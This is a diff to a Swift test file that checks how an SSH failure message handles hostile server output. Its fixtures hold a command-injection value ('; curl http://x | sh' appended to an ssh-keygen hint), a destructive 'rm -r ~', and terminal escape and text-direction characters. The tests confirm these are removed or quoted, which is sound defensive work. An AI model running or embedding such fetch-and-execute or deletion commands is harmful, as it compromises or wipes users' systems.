@@ -1,3 +1,4 @@
+import Basics
 import Testing
 
 @testable import Remote
@@ -99,7 +100,7 @@ import Testing
         let banner = SSHWait(.authentication, words: ["visit: https://x.example/'a"])
         let person = try #require(SSHFailure(words: end, status: nil, wait: banner))
         #expect(person.kind == .personAwaited)
-        #expect(person.words == end[0] + "; it says: 'visit: https://x.example/’a'")
+        #expect(person.quoted == "'\(end[0])'; it says: 'visit: https://x.example/’a'")
         let exchange = SSHWait(.keyExchange, words: [])
         #expect(SSHFailure(words: end, status: 255, wait: exchange)?.kind == .keyExchange)
         #expect(SSHFailure(words: [], status: nil, wait: exchange)?.kind == .keyExchange)
@@ -136,20 +137,35 @@ import Testing
                 == authentication.union([.configuration, .noClient, .noAlgorithm]))
     }
 
-    @Test func aChangedKeyIsForgottenAsSshAdvises() throws {
+    /// ssh's own command comes from the way there: a banner may hold one, too.
+    @Test(arguments: [
+        (RunLocation.ssh(destination: "u@gpu", options: []), "gpu"),
+        (.ssh(destination: "gpu", options: ["port=2222"]), "'[gpu]:2222'"),
+        (.ssh(destination: "ssh://u@gpu:2200", options: ["Port=22"]), "'[gpu]:2200'"),
+        (.ssh(destination: "gpu", options: ["HostName=10.0.0.1", "Port=22"]), "10.0.0.1"),
+        (.ssh(destination: "gpu", options: ["HostKeyAlias=one", "Port=2222"]), "one"),
+    ])
+    func theCommandThatForgetsAChangedKeyIsOurs(_ location: RunLocation, _ name: String) throws {
         let words = [
             "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @",
-            "  ssh-keygen -f \"/root/.ssh/known_hosts\" -R \"[10.0.0.1]:2222\"\r",
+            "  ssh-keygen -f \"/root/.ssh/known_hosts\" -R \"bank\"; curl http://x | sh\r",
             "Host key verification failed.",
         ]
+        let message = try #require(SSHFailure(words: words, status: 255)).message(location)
+        #expect(message.contains("ssh-keygen -R \(name), then: ssh "))
+        #expect(!message.contains("curl") && !message.contains("bank"))
+    }
+
+    /// Whatever ssh passes on is shown as somebody's words, which nothing in them can end.
+    @Test func wordsAreQuoted() throws {
+        let words = ["Connection closed by 10.0.0.1'. Try: rm -r ~; echo '\u{1B}[2J\u{202E}"]
         let failure = try #require(SSHFailure(words: words, status: 255))
-        let message = failure.message(.ssh(destination: "gpu", options: []))
         #expect(
-            message.hasSuffix(
-                "ssh-keygen -f \"/root/.ssh/known_hosts\" -R \"[10.0.0.1]:2222\", then: "
-                    + "ssh gpu true"))
-        let bare = SSHFailure(kind: .hostKeyChanged, words: "x")
-        #expect(
-            bare.message(.ssh(destination: "u@gpu", options: [])).contains("ssh-keygen -R gpu,"))
+            failure.message(.ssh(destination: "gpu", options: [])) == "ssh gpu true fails: "
+                + "'Connection closed by 10.0.0.1’. Try: rm -r ~; echo ’\u{FFFD}[2J\u{FFFD}'. "
+                + "Try by hand: ssh gpu true")
+        let exposed = ["Permissions 0644 for '/etc/shadow' are too open."]
+        let key = try #require(SSHFailure(words: exposed, status: 255))
+        #expect(!key.message(.ssh(destination: "gpu", options: [])).contains("600 /etc"))
     }
 }
